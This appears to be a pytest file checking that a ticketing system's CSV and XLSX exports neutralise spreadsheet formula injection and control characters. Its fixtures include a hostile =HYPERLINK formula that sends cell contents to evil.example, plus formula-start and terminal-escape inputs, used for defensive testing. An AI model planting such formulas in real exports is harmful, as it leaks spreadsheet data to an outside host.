"""Issue 17, finding 6: a cell from outside is never a formula in any export, and stays whole.

A complaint subject ``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` became a live formula
in the Program Kegiatan XLSX (CLI and web) and CSV. Here every hostile text of the corpus
(formula starts ``= + - @``, tab, CR, and control characters that openpyxl refuses) is the
problem and the proposed action of a Program Kegiatan entry; the files written by
``sigap program-kegiatan export`` and by the board's ``/program/ekspor`` are read back with
openpyxl and csv, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import sys
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import openpyxl
import pytest

from agent import cli
from agent.wiring import build_web_app, open_store, ticket_service
from tests.hostile_text import CORPUS, NO_NUL, Hostile, unsafe
from tests.webboard import (
    SECRET,
    TestClient,
    csrf_of,
    password_of,
    set_passwords,
    write_inventory,
)
from ticketing.display import formula_like, sheet_text, shown
from ticketing.service import ProgramDraft
from ticketing.workflow import Complexity

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl.worksheet.worksheet import Worksheet

pytestmark = pytest.mark.unit

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP
WHOLE = tuple(h.text for h in CORPUS if h.text[:1] in "=+-@\t")  # printable: stored as given


@pytest.fixture(params=["sqlite", "postgresql"])
def office(request, tmp_path: Path):
    """The board's office with a kompleks complaint per corpus entry (problem = subject,
    proposed action = the same text); yields (inventory, url, corpus)."""
    url, corpus = (
        (f"sqlite:///{tmp_path / 'board.db'}", CORPUS)
        if request.param == "sqlite"
        else (str(request.getfixturevalue("pg_url")), NO_NUL)  # PostgreSQL text: no NUL
    )
    inventory = write_inventory(tmp_path)
    set_passwords(url)
    with open_store(inventory, url, migrate=True) as store:
        svc = ticket_service(inventory, store, lambda: datetime.now(UTC))
        for h in corpus:
            number = svc.report(source="email", opd="RSUD Praya", reporter="x",
                                description=h.text, by=None).number  # fmt: skip
            svc.dispose(number, by="Hj Kabid", isi="tangani")
            svc.assign(number, by="Baiq Kasi", technician="Teknisi Satu")
            draft = ProgramDraft(proposed_action=h.text, estimated_cost=1000, budget_year=2027,
                                 problem=h.text)  # fmt: skip
            svc.handle(number, by="Teknisi Satu", complexity=Complexity.KOMPLEKS, program=draft)
    return inventory, url, corpus


def cells_of(sheet: Worksheet) -> list[openpyxl.cell.cell.Cell]:
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def check_xlsx(data: bytes, corpus: tuple[Hostile, ...]) -> None:
    """No formula cell; every text shown and whole; formula-looking text marked quotePrefix."""
    cells = cells_of(openpyxl.load_workbook(io.BytesIO(data))["Program Kegiatan"])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if unsafe(t)] == []
    for text in WHOLE:
        assert text in texts  # the complaint's text, as written
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and formula_like(c.value))
    for h in corpus:
        assert any(h.marker in t for t in texts), h.marker


def check_csv(data: str, corpus: tuple[Hostile, ...]) -> None:
    """No cell a spreadsheet would evaluate; formula-looking text quoted with ``'``, whole."""
    cells = [c for row in csv.reader(io.StringIO(data)) for c in row]
    assert [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("+-").isdigit()] == []
    assert [c for c in cells if unsafe(c)] == []
    for text in WHOLE:
        assert "'" + text in cells
    for h in corpus:
        assert any(h.marker in c for c in cells), h.marker


def test_cli_exports_write_text_cells(office, tmp_path, monkeypatch, capsys):
    inventory, url, corpus = office
    monkeypatch.setenv("SIGAP_INVENTORY", str(inventory.path))
    monkeypatch.setenv("SIGAP_DB_URL", url)
    monkeypatch.chdir(tmp_path)
    for fmt in ("xlsx", "csv"):
        monkeypatch.setattr(sys, "argv", ["sigap", "program-kegiatan", "export", "--format", fmt,
                                          "--tahun", "2027", "-o", f"pk.{fmt}"])  # fmt: skip
        with pytest.raises(SystemExit) as info:
            cli.main()
        assert info.value.code == 0, capsys.readouterr().err
    check_xlsx((tmp_path / "pk.xlsx").read_bytes(), corpus)
    check_csv((tmp_path / "pk.csv").read_text(encoding="utf-8-sig"), corpus)


def test_board_exports_write_text_cells(office):
    inventory, url, corpus = office
    app = build_web_app(inventory, open_store(inventory, url), secret_key=SECRET)
    with TestClient(app, follow_redirects=False) as client:
        form = {"nama": "Baiq Kasi", "sandi": password_of("Baiq Kasi"), "lanjut": "/"}
        form["csrf"] = csrf_of(client.get("/masuk").text)
        assert client.post("/masuk", data=form).status_code == 303
        xlsx = client.get("/program/ekspor?tahun=2027&format=xlsx")
        assert xlsx.status_code == 200
        check_xlsx(xlsx.content, corpus)
        reply = client.get("/program/ekspor?tahun=2027&format=csv")
        assert reply.status_code == 200
        check_csv(reply.content.decode("utf-8-sig"), corpus)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+62 812 3456 7890 =1", "'+62 812 3456 7890 =1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\\x0d=1"),  # shown, so no longer a CR at the start
        ("=\x00\x1b[2J", "'=\\x00\\x1b[2J"),
        ("-", "-"),  # sigap's "no value" and plain numbers stay values
        ("+6281234567", "+6281234567"),
        ("-1.5", "-1.5"),
        ("a=b", "a=b"),
    ],
)
def test_the_one_rule(text: str, cell: str) -> None:
    assert sheet_text(text) == cell
    assert sheet_text(cell) == cell  # idempotent


def test_shown_makes_every_acting_character_visible_and_is_idempotent() -> None:
    every = "".join(chr(c) for c in (*range(0x20), *range(0x7F, 0xA0)))
    every += "\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    every += "\u2028\u2029\ufeff\u00ad\U000e0041\udcff"
    out = shown(every)
    assert unsafe(out) == []
    assert "\\x1b" in out
    assert "\\u202e" in out
    assert "\\U000e0041" in out
    assert shown(out) == out
    assert "\n" in out
    assert "\n" not in shown(every, one_line=True)
    assert shown("Ayu 👩\u200d💻 ok") == "Ayu 👩\u200d💻 ok"  # joiners inside emoji stay
